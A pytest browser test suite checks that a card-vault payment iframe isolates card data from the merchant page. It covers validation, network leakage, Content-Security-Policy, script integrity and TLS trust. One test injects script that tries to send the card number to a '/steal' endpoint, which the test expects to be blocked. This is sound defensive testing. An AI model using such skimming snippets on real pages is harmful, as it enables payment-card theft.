"""The card element in headless Chromium, against the real vault over TLS.

A merchant checkout page on https://127.0.0.1:MPORT loads cardvault.js (pinned by its
SRI hash) from the vault at https://localhost:VPORT and mounts the card element. The
tests type into the frame as a customer would and look at what the merchant's page,
the merchant's server, the network and the vault each got.

Only published test card numbers are typed (see shared/testdata/test_cards.json); the
"bad" number is the Visa test card with its check digit changed, which no card has.
"""

from __future__ import annotations

import json
import re
import time
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest
from browser_support import Recorder, Sites, Vault, launch, nss_home
from playwright.sync_api import Error as PlaywrightError

VISA = "4242424242424242"
AMEX = "378282246310005"
#: VISA with the last digit changed: fails the Luhn check, so it is no card at all.
BAD = "4242424242424241"
FRAME = "iframe[title='Secure card payment input frame']"
SCREENSHOT = Path(__file__).resolve().parents[2] / "docs" / "images" / "element-checkout.png"


# -- helpers ------------------------------------------------------------------------------


def open_checkout(page: Any, sites: Sites) -> None:
    page.goto(sites.merchant.origin + "/checkout")
    page.wait_for_function("window.cardReady === true")


def card_frame(page: Any) -> Any:
    """The frame as Playwright (not the merchant) sees it: for typing and looking inside."""
    for frame in page.frames:
        if "/element/v1/card.html" in frame.url:
            return frame
    raise AssertionError("no card frame")


def type_card(page: Any, number: str, expiry: str = "1234", cvc: str = "123") -> None:
    frame = page.frame_locator(FRAME)
    frame.get_by_label("Card number").press_sequentially(number)
    if expiry:
        frame.get_by_label("Expiry date").press_sequentially(expiry)
    if cvc:
        frame.get_by_label("Security code").press_sequentially(cvc)


def pay(page: Any) -> dict[str, str]:
    page.get_by_role("button", name=re.compile("^Pay")).click()
    page.wait_for_selector("#result[data-state]")
    result = page.locator("#result")
    return {
        "state": result.get_attribute("data-state") or "",
        "pm": result.get_attribute("data-pm") or "",
        "text": result.inner_text(),
    }


def save_screenshot(page: Any) -> None:
    """The checkout with a card typed into the element, for the README. Taken before
    paying, so that it is the same on every run (a pm_ id is not); written only when it
    changed, so that a test run leaves the work tree clean."""
    card_frame(page).evaluate("document.activeElement && document.activeElement.blur()")
    page.evaluate("document.activeElement && document.activeElement.blur()")
    page.wait_for_timeout(500)  # the fields' focus transitions end
    png = page.screenshot(full_page=True, animations="disabled", caret="hide")
    assert len(png) > 10_000
    if not SCREENSHOT.exists() or SCREENSHOT.read_bytes() != png:
        SCREENSHOT.parent.mkdir(parents=True, exist_ok=True)
        SCREENSHOT.write_bytes(png)


def payment_methods(api: httpx.Client, vault: Vault) -> list[dict[str, Any]]:
    r = api.get(
        f"{vault.url}/v1/payment_methods",
        params={"limit": 100},
        headers={"authorization": f"Bearer {vault.sk}"},
    )
    assert r.status_code == 200, r.text
    data: list[dict[str, Any]] = r.json()["data"]
    return data


def origin_of(url: str) -> str:
    m = re.match(r"^(https?://[^/]+)", url)
    return m.group(1) if m else url


def request_text(request: Any) -> str:
    """URL, every header and the body of a recorded request, as one string."""
    try:
        headers = request.all_headers()
    except PlaywrightError:
        headers = request.headers
    return "\n".join([request.url, json.dumps(headers), request.post_data or ""])


def holds_number(text: str, number: str) -> bool:
    """``number`` in ``text``, also when split by spaces, '+', '%20' or dashes."""
    return number in re.sub(r"%20|\+| |-", "", text)


def wait_until(page: Any, check: Any, timeout: float = 10.0) -> None:
    deadline = time.monotonic() + timeout
    while not check():
        if time.monotonic() > deadline:
            raise AssertionError("condition not met in time")
        page.wait_for_timeout(100)


# -- a card becomes a pm_ in the page -------------------------------------------------------


def test_a_card_typed_into_the_element_yields_a_payment_method_in_the_page(
    page: Any, sites: Sites, vault: Vault, api: httpx.Client
) -> None:
    page.set_viewport_size({"width": 560, "height": 860})
    open_checkout(page, sites)
    page.get_by_label("Name on card").fill("Jenny Rosen")
    page.get_by_label("Email").fill("jenny@example.com")
    type_card(page, VISA)
    frame = page.frame_locator(FRAME)
    assert frame.locator("#brand").inner_text() == "Visa"
    assert frame.get_by_label("Card number").input_value() == "4242 4242 4242 4242"
    assert frame.get_by_label("Expiry date").input_value() == "12 / 34"
    save_screenshot(page)

    result = pay(page)

    assert result["state"] == "ok", result
    assert result["pm"].startswith("pm_")
    assert result["text"] == f"Saved visa ending in 4242 as {result['pm']}."
    # The page received the vault's payment method object: last four, never the number.
    outcome = json.loads(page.evaluate("window.seen.results[0]"))
    assert outcome["paymentMethod"]["id"] == result["pm"]
    assert outcome["paymentMethod"]["card"]["last4"] == "4242"
    # The vault has it, with the billing details the page passed through the element.
    r = api.get(
        f"{vault.url}/v1/payment_methods/{result['pm']}",
        headers={"authorization": f"Bearer {vault.sk}"},
    )
    assert r.status_code == 200, r.text
    pm = r.json()
    assert (pm["card"]["brand"], pm["card"]["last4"], pm["card"]["exp_month"]) == (
        "visa",
        "4242",
        12,
    )
    assert pm["card"]["exp_year"] == 2034
    assert pm["billing_details"]["name"] == "Jenny Rosen"
    assert pm["billing_details"]["email"] == "jenny@example.com"
    # The merchant's server got the pm_ id, and only that.
    assert (
        "POST",
        "/pay",
        json.dumps({"payment_method": result["pm"]}).replace(" ", "").encode(),
    ) in [(m, p, b.replace(b" ", b"")) for m, p, b in sites.merchant.received]


def test_the_keyboard_alone_fills_the_card_and_enter_pays(page: Any, sites: Sites) -> None:
    open_checkout(page, sites)
    page.get_by_label("Name on card").fill("Jenny Rosen")
    page.get_by_label("Email").focus()
    frame = card_frame(page)

    page.keyboard.press("Tab")
    assert frame.evaluate("document.activeElement.id") == "cardnumber"
    page.keyboard.type(VISA)
    # A complete, valid number moves on to the expiry date, and a valid date to the CVC.
    assert frame.evaluate("document.activeElement.id") == "exp-date"
    page.keyboard.type("1234")
    assert frame.evaluate("document.activeElement.id") == "cvc"
    page.keyboard.type("123")
    # Shift+Tab and Tab walk the fields in order.
    page.keyboard.press("Shift+Tab")
    page.keyboard.press("Shift+Tab")
    assert frame.evaluate("document.activeElement.id") == "cardnumber"
    page.keyboard.press("Tab")
    assert frame.evaluate("document.activeElement.id") == "exp-date"
    page.keyboard.press("Tab")
    assert frame.evaluate("document.activeElement.id") == "cvc"

    page.keyboard.press("Enter")  # the element tells the page; the page submits its form
    page.wait_for_selector("#result[data-state]")
    assert page.locator("#result").get_attribute("data-state") == "ok"
    assert (page.locator("#result").get_attribute("data-pm") or "").startswith("pm_")


# -- a bad number ---------------------------------------------------------------------------


def test_a_bad_number_shows_the_error_and_creates_nothing(
    page: Any, sites: Sites, vault: Vault, api: httpx.Client, recorder: Recorder
) -> None:
    before = len(payment_methods(api, vault))
    open_checkout(page, sites)
    frame = page.frame_locator(FRAME)
    frame.get_by_label("Card number").press_sequentially(BAD)

    # Live: the error shows as soon as the number is complete, before anything is sent.
    error = frame.get_by_role("alert")
    assert error.inner_text() == "Your card number is invalid."
    assert frame.get_by_label("Card number").get_attribute("aria-invalid") == "true"
    frame.get_by_label("Expiry date").press_sequentially("1234")
    frame.get_by_label("Security code").press_sequentially("123")

    result = pay(page)

    assert result == {"state": "error", "pm": "", "text": "Your card number is invalid."}
    outcome = json.loads(page.evaluate("window.seen.results[0]"))
    assert outcome == {
        "error": {
            "type": "validation_error",
            "code": "invalid_number",
            "message": "Your card number is invalid.",
        }
    }
    assert error.inner_text() == "Your card number is invalid."
    assert len(payment_methods(api, vault)) == before
    # Nothing was even sent: the frame did not call the API.
    assert not [r for r in recorder.requests if "/v1/payment_methods" in r.url]


def test_live_validation_brand_expiry_and_cvc(page: Any, sites: Sites) -> None:
    open_checkout(page, sites)
    frame = page.frame_locator(FRAME)
    number = frame.get_by_label("Card number")
    expiry = frame.get_by_label("Expiry date")
    cvc = frame.get_by_label("Security code")
    error = frame.get_by_role("alert")
    # Sensible autocomplete and keyboards on every field.
    assert [number.get_attribute("autocomplete"), expiry.get_attribute("autocomplete")] == [
        "cc-number",
        "cc-exp",
    ]
    assert cvc.get_attribute("autocomplete") == "cc-csc"
    assert {f.get_attribute("inputmode") for f in (number, expiry, cvc)} == {"numeric"}

    number.press_sequentially(AMEX)
    assert number.input_value() == "3782 822463 10005"
    assert frame.locator("#brand").inner_text() == "American Express"

    expiry.press_sequentially("13")
    assert error.inner_text() == "Your card's expiration month is invalid."
    expiry.fill("")
    expiry.press_sequentially("1220")
    assert error.inner_text() == "Your card's expiration date is in the past."
    assert expiry.get_attribute("aria-invalid") == "true"
    expiry.fill("")
    expiry.press_sequentially("1234")
    assert error.inner_text() == ""

    # American Express has four-digit codes: three is incomplete once the field is left.
    cvc.press_sequentially("123")
    assert error.inner_text() == ""  # not while typing
    number.focus()
    assert error.inner_text() == "Your card's security code is incomplete."
    assert cvc.get_attribute("aria-invalid") == "true"
    cvc.press_sequentially("4")
    assert error.inner_text() == ""

    # The page heard the brand and the state, and never a digit of the number.
    changes = [json.loads(c) for c in page.evaluate("window.seen.changes")]
    assert changes[-1] == {
        "elementType": "card",
        "empty": False,
        "complete": True,
        "brand": "amex",
    }
    assert any(c.get("error", {}).get("code") == "invalid_expiry_year_past" for c in changes)
    assert not holds_number(json.dumps(changes), AMEX)


# -- what the merchant's page can and cannot do --------------------------------------------


def test_the_merchant_page_cannot_read_the_frames_fields(page: Any, sites: Sites) -> None:
    open_checkout(page, sites)
    type_card(page, VISA)
    # The frame does hold the number (so the checks below could fail)...
    assert card_frame(page).evaluate("document.getElementById('cardnumber').value") == (
        "4242 4242 4242 4242"
    )
    # ...and the merchant's own script, in the page, cannot get at it any way it tries.
    attempt = page.evaluate(
        """() => {
        const out = {};
        const iframe = document.querySelector('iframe');
        out.contentDocument = iframe.contentDocument === null ? 'null' : 'readable';
        const tries = {
            document: () => iframe.contentWindow.document.body.innerHTML,
            frames: () => window.frames[0].document.getElementById('cardnumber').value,
            location: () => iframe.contentWindow.location.href,
            input: () => iframe.contentWindow.cardnumber.value,
        };
        for (const [name, fn] of Object.entries(tries)) {
            try { out[name] = 'read: ' + fn(); } catch (e) { out[name] = e.name; }
        }
        out.page = document.documentElement.outerHTML;
        out.seen = JSON.stringify(window.seen);
        return out;
    }"""
    )
    assert attempt["contentDocument"] == "null"
    assert attempt["document"] == "SecurityError"
    assert attempt["frames"] == "SecurityError"
    assert attempt["location"] == "SecurityError"
    assert attempt["input"] == "SecurityError"
    # Nothing the frame told the page holds the number, the expiry or the CVC.
    assert not holds_number(attempt["page"], VISA)
    assert not holds_number(attempt["seen"], VISA)
    for message in page.evaluate("window.seen.messages"):
        assert message["origin"] == sites.vault_url
        data = json.loads(message["data"])
        assert set(data) <= {"type", "empty", "complete", "brand", "error", "height"}


def test_a_page_on_an_origin_that_is_not_configured_cannot_frame_it(
    page: Any, sites: Sites, recorder: Recorder
) -> None:
    page.goto(sites.evil.origin + "/")
    frames = lambda: [r for r in recorder.responses if "/element/v1/card.html" in r.url]  # noqa: E731
    wait_until(page, lambda: len(frames()) == 2)
    wait_until(page, lambda: any("frame-ancestors" in c for c in recorder.console))

    by_origin = {r.url.split("origin=")[1]: r for r in frames()}
    # Honest: cardvault.js names the page's origin; the vault refuses to render, and its
    # refusal may be framed by no one.
    honest = by_origin[sites.evil.origin.replace(":", "%3A").replace("/", "%2F")]
    assert honest.status == 403
    assert "frame-ancestors 'none'" in honest.headers["content-security-policy"]
    # Forged: the page claims the merchant's origin. The vault renders the frame for the
    # merchant, and the browser refuses to show it in this page.
    forged = by_origin[sites.merchant.origin.replace(":", "%3A").replace("/", "%2F")]
    assert forged.status == 200
    assert forged.headers["content-security-policy"].endswith(
        f"frame-ancestors {sites.merchant.origin}"
    )
    assert any(
        "Content Security Policy" in c and f"frame-ancestors {sites.merchant.origin}" in c
        for c in recorder.console
    ), recorder.console
    # No card field exists in any frame of this page, and the element never got ready.
    page.wait_for_timeout(500)
    for frame in page.frames[1:]:
        try:
            count = frame.locator("#cardnumber").count()
        except PlaywrightError:
            count = 0
        assert count == 0, frame.url
    assert page.evaluate("window.cardReady") is False


# -- the network ---------------------------------------------------------------------------


def test_no_request_from_the_merchant_origin_carries_the_card_number(
    page: Any, sites: Sites, vault: Vault, recorder: Recorder
) -> None:
    open_checkout(page, sites)
    page.get_by_label("Name on card").fill("Jenny Rosen")
    type_card(page, VISA, cvc="737")
    result = pay(page)
    assert result["state"] == "ok"
    page.wait_for_timeout(300)  # the page's POST /pay after the result

    vault_origin = origin_of(vault.url)
    merchant = sites.merchant.origin
    carriers = [r for r in recorder.requests if holds_number(request_text(r), VISA)]
    # The number travelled exactly once: from the frame, on the vault's origin, to the
    # vault's API, with the publishable key. (This is also what proves the recording saw
    # the frame's traffic.)
    assert len(carriers) == 1, [r.url for r in carriers]
    (carrier,) = carriers
    assert carrier.method == "POST"
    assert carrier.url == f"{vault.url}/v1/payment_methods"
    assert origin_of(carrier.frame.url) == vault_origin
    assert carrier.all_headers()["authorization"] == f"Bearer {vault.pk}"
    assert "card%5Bcvc%5D=737" in (carrier.post_data or "")

    from_or_to_merchant = [
        r
        for r in recorder.requests
        if origin_of(r.url) == merchant or origin_of(r.frame.url) == merchant
    ]
    paths = {(r.method, r.url.removeprefix(merchant)) for r in from_or_to_merchant}
    assert ("POST", "/pay") in paths and ("GET", "/checkout") in paths
    for r in from_or_to_merchant:
        text = request_text(r)
        assert not holds_number(text, VISA), r.url
        # The URL's path and query only: its port is random and may hold "737".
        where = urlsplit(r.url)
        assert "737" not in (r.post_data or "") and "737" not in where.path + where.query
    # And the merchant's server, which saw its own requests, has no number either.
    for _method, path, body in sites.merchant.received:
        assert not holds_number(path + body.decode(), VISA)


# -- the frame's Content-Security-Policy ---------------------------------------------------


def test_the_csp_blocks_an_injected_inline_script_in_the_frame(
    page: Any, sites: Sites, recorder: Recorder
) -> None:
    open_checkout(page, sites)
    type_card(page, VISA)
    frame = card_frame(page)
    # An attacker who could write into the frame's DOM (this is the test harness, with
    # more power than any page) tries to run script and send the number away.
    frame.evaluate(
        """() => {
        window.violations = [];
        document.addEventListener('securitypolicyviolation',
            (e) => window.violations.push(e.effectiveDirective));
        const s = document.createElement('script');
        s.textContent = "window.injected = document.getElementById('cardnumber').value;";
        document.body.appendChild(s);
        const img = document.createElement('img');
        img.setAttribute('onerror', 'window.injectedHandler = true');
        img.src = 'missing.png';
        document.body.appendChild(img);
    }"""
    )
    sent = frame.evaluate(
        """(target) => fetch(target + '/steal?n=' + document.getElementById('cardnumber').value)
            .then(() => 'sent', () => 'blocked')""",
        sites.merchant.origin,
    )
    frame.evaluate(
        """(target) => { const i = new Image(); i.src = target + '/steal?img=1'; }""",
        sites.merchant.origin,
    )
    page.wait_for_timeout(500)

    assert frame.evaluate("typeof window.injected") == "undefined"
    assert frame.evaluate("typeof window.injectedHandler") == "undefined"
    assert sent == "blocked"
    violations = frame.evaluate("window.violations")
    assert "script-src-elem" in violations
    assert "script-src-attr" in violations
    assert "connect-src" in violations
    assert "img-src" in violations
    # Chromium says it too ("Executing inline script violates ... 'script-src 'self''").
    assert any(
        "inline script" in c and "Content Security Policy" in c and "script-src 'self'" in c
        for c in recorder.console
    ), recorder.console
    assert not [p for _m, p, _b in sites.merchant.received if p.startswith("/steal")]
    # The frame's own script kept working.
    assert frame.evaluate("document.getElementById('brand').textContent") == "Visa"


# -- the script's integrity, and the browser's trust ---------------------------------------


def test_a_script_that_does_not_match_the_pinned_hash_does_not_run(
    page: Any, sites: Sites, recorder: Recorder
) -> None:
    page.goto(sites.merchant.origin + "/tampered")
    wait_until(page, lambda: any("integrity" in c for c in recorder.console))
    assert page.evaluate("typeof window.CardVault") == "undefined"


def test_the_pinned_hash_matches_the_script_the_vault_serves(page: Any, sites: Sites) -> None:
    open_checkout(page, sites)
    assert page.evaluate("typeof window.CardVault") == "function"
    assert page.evaluate("CardVault.version") == "v1"


def test_the_browser_refuses_the_vault_without_the_test_ca(
    playwright: Any, tmp_path: Path, vault: Vault
) -> None:
    # The same browser and flags, with an NSS database that does not hold the test CA:
    # nothing in the set-up switches verification off.
    browser = launch(playwright, nss_home(tmp_path / "home", None))
    try:
        page = browser.new_page()
        with pytest.raises(PlaywrightError, match="ERR_CERT_AUTHORITY_INVALID"):
            page.goto(vault.url + "/js/v1/cardvault.js")
    finally:
        browser.close()
